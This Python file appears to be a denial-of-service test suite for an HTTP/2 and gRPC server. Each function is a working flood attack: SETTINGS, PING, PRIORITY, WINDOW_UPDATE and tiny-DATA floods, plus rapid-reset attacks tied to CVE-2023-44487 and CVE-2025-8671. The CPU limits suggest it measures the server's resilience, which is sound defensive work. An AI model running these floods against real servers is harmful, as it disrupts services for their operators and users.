"""Floods of HTTP/2 frames that cost the sender a few bytes each."""

import struct

from attack.connection import GRPC_LIVE, GRPC_STREAM, Http2Peer
from attack.registry import GRPC, HTTP2, Limits, attack
from attack.target import Target
from naiad.wire.http2 import frames as wire

_FLOOD = Limits(cpu_s=2.0)
_PIECE_FRAMES = 2000
_INFER = "/v2/models/floats/infer"


def _flood(target: Target, frame: bytes, full: int, *, has_stream: bool = False) -> None:
    """Send a frame `full` times, on new connections when one was closed, with one stream open if asked for."""
    rounds = target.rounds(full // _PIECE_FRAMES)
    while next(rounds, None) is not None:
        with target.http2() as peer:
            if has_stream:
                _open_body(peer)
            while peer.send(frame * _PIECE_FRAMES) and next(rounds, None) is not None:
                pass
            peer.wait_read()


def _open_body(peer: Http2Peer) -> int:
    """Open stream 1, whose body goes on."""
    stream_id, head = peer.open_stream(GRPC_STREAM if peer.is_grpc else _INFER)
    peer.send(head)
    return stream_id


@attack(HTTP2, GRPC, limits=Limits(cpu_s=1.0))
def settings_times_streams(target: Target) -> None:
    """SETTINGS that change the initial window 64 times a frame, with a thousand streams open."""
    settings = b"".join(wire.SETTING.pack(wire.SETTING_INITIAL_WINDOW_SIZE, size % 2) for size in range(64))
    for _ in target.rounds(10):
        with target.http2(wire.SETTING.pack(wire.SETTING_INITIAL_WINDOW_SIZE, 0)) as peer:
            for _ in range(1000):
                _open_body(peer)
            peer.send(wire.frame(wire.SETTINGS, 0, 0, settings) * 1900)
            peer.wait_read()


@attack(HTTP2, GRPC, limits=_FLOOD)
def settings_flood(target: Target) -> None:
    """Empty SETTINGS frames, each of which is acknowledged."""
    _flood(target, wire.frame(wire.SETTINGS, 0, 0), 200_000)


@attack(HTTP2, GRPC, limits=_FLOOD)
def ping_flood(target: Target) -> None:
    """PING frames, each of which is answered."""
    _flood(target, wire.frame(wire.PING, 0, 0, bytes(8)), 200_000)


@attack(HTTP2, GRPC, limits=_FLOOD)
def priority_flood(target: Target) -> None:
    """PRIORITY frames."""
    _flood(target, wire.frame(wire.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)), 200_000)


@attack(HTTP2, GRPC, limits=_FLOOD)
def unknown_frames(target: Target) -> None:
    """Empty frames of an unknown type."""
    _flood(target, wire.frame(99, 0, 0), 200_000)


@attack(HTTP2, GRPC, limits=_FLOOD)
def connection_window_updates(target: Target) -> None:
    """WINDOW_UPDATE frames that open the connection's window by one byte each."""
    _flood(target, wire.window_update(0, 1), 400_000)


@attack(HTTP2, GRPC, limits=_FLOOD)
def stream_window_updates(target: Target) -> None:
    """WINDOW_UPDATE frames that open a stream's window by one byte each."""
    _flood(target, wire.window_update(1, 1), 400_000, has_stream=True)


@attack(HTTP2, GRPC, limits=_FLOOD)
def one_byte_data(target: Target) -> None:
    """A body in DATA frames of one byte."""
    _flood(target, wire.frame(wire.DATA, 0, 1, b"\0"), 400_000, has_stream=True)


@attack(HTTP2, GRPC, limits=_FLOOD)
def empty_data(target: Target) -> None:
    """DATA frames without a byte."""
    _flood(target, wire.frame(wire.DATA, 0, 1), 200_000, has_stream=True)


@attack(HTTP2, GRPC, limits=_FLOOD)
def padded_data(target: Target) -> None:
    """DATA frames of one byte and 255 bytes of padding."""
    _flood(target, wire.frame(wire.DATA, wire.FLAG_PADDED, 1, b"\xff\0" + bytes(255)), 100_000, has_stream=True)


@attack(HTTP2, GRPC, limits=_FLOOD)
def data_on_reset_stream(target: Target) -> None:
    """DATA frames for a stream that the server has refused."""
    rounds = target.rounds(200)
    while next(rounds, None) is not None:
        with target.http2() as peer:
            peer.send(peer.open_stream("/nowhere")[1])
            while peer.send(wire.frame(wire.DATA, 0, 1, b"\0") * 1000) and next(rounds, None) is not None:
                pass
            peer.wait_read()


@attack(HTTP2, GRPC, limits=Limits(cpu_s=4.0))
def rapid_reset(target: Target) -> None:
    """Requests that are reset as soon as they are made (CVE-2023-44487)."""
    rounds = target.rounds(60)
    while next(rounds, None) is not None:
        with target.http2() as peer:
            while peer.is_open:
                block = peer.fields(GRPC_LIVE if peer.is_grpc else _INFER)
                pairs = bytearray()
                for _ in range(1000):
                    stream_id = peer.new_id()
                    pairs += wire.frame(wire.HEADERS, wire.FLAG_END_HEADERS, stream_id, block)
                    pairs += wire.rst_stream(stream_id, wire.Http2Code.CANCEL)
                if not peer.send(bytes(pairs)) or next(rounds, None) is None:
                    break
            peer.wait_read()


@attack(HTTP2, GRPC, limits=Limits(cpu_s=4.0))
def rapid_reset_with_bodies(target: Target) -> None:
    """Requests with a body each that are reset as soon as it is complete but for its end."""
    rounds = target.rounds(60)
    message = b"\0" + struct.pack(">I", 2000) + bytes(1000)
    while next(rounds, None) is not None:
        with target.http2() as peer:
            while peer.is_open:
                block = peer.fields(GRPC_LIVE if peer.is_grpc else _INFER)
                requests = bytearray()
                for _ in range(500):
                    stream_id = peer.new_id()
                    requests += wire.frame(wire.HEADERS, wire.FLAG_END_HEADERS, stream_id, block)
                    requests += wire.frame(wire.DATA, 0, stream_id, message)
                    requests += wire.rst_stream(stream_id, wire.Http2Code.CANCEL)
                if not peer.send(bytes(requests)) or next(rounds, None) is None:
                    break
            peer.wait_read()


@attack(HTTP2, GRPC, limits=Limits(cpu_s=4.0))
def made_to_reset(target: Target) -> None:
    """Requests that the server has to reset, for a WINDOW_UPDATE of 0 (CVE-2025-8671)."""
    rounds = target.rounds(60)
    while next(rounds, None) is not None:
        with target.http2() as peer:
            while peer.is_open:
                block = peer.fields(GRPC_LIVE if peer.is_grpc else _INFER)
                pairs = bytearray()
                for _ in range(1000):
                    stream_id = peer.new_id()
                    pairs += wire.frame(wire.HEADERS, wire.FLAG_END_HEADERS, stream_id, block)
                    pairs += wire.window_update(stream_id, 0)
                if not peer.send(bytes(pairs)) or next(rounds, None) is None:
                    break
            peer.wait_read()
